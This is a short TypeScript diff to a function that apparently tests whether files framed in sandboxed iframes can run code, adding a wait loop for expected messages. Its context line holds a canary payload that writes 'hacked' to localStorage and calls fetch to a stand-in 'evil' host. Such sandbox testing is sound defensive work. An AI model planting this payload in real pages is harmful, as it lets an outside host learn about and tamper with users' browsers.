@@ -7,8 +7,8 @@ export type Framing = { file: string; sandbox: string | undefined };
  * @returns the answers, and what ran
  */
 export async function frameFiles(text: string): Promise<string> {
-  const { site, evil, framings }: { site: string; evil: string; framings: Framing[] } =
-    JSON.parse(text);
+  type Given = { site: string; evil: string; framings: Framing[]; awaited: string[] };
+  const { site, evil, framings, awaited }: Given = JSON.parse(text);
   const heard: string[] = [];
   const hear = (by: string) => heard.push(by);
   const code = `globalThis.localStorage?.setItem('hacked', '1'); fetch('${evil}/ran'); export default () => null;`;
@@ -68,6 +68,9 @@ export async function frameFiles(text: string): Promise<string> {
   while (framings.length > 0) {
     const framed = await Promise.all(framings.splice(0, 8).map(frameFile));
     await new Promise((resolve) => setTimeout(resolve, 400));
+    for (let n = 0; n < 1000 && awaited.some((line) => !heard.includes(line)); n += 1) {
+      await new Promise((resolve) => setTimeout(resolve, 50));
+    }
     for (const { frame, onMessage } of framed) {
       frame.remove();
       removeEventListener('message', onMessage);
